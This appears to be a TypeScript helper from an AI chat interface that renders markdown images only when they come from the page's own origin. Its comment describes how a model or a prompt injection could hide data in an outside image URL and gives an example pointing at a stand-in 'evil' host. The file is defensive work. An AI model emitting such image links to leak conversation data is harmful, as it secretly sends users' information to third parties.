/**
 * True when a markdown image may be drawn as an `<img>`: only when its URL resolves to the page's own
 * origin. An image from anywhere else would be fetched the moment the message is shown, and its URL
 * can carry whatever the model (or a prompt injection it read) put there (`![x](https://evil/?d=…)`),
 * so it is shown as a link the reader may choose to follow instead. The Content-Security-Policy
 * (img-src 'self' data: blob:) refuses such a load as well; this keeps the page from trying.
 */
export function isPageOriginImage(
  src: string | undefined,
  pageOrigin: string | undefined,
): boolean {
  if (!src || !pageOrigin) return false;
  try {
    return new URL(src, pageOrigin).origin === pageOrigin;
  } catch {
    return false;
  }
}
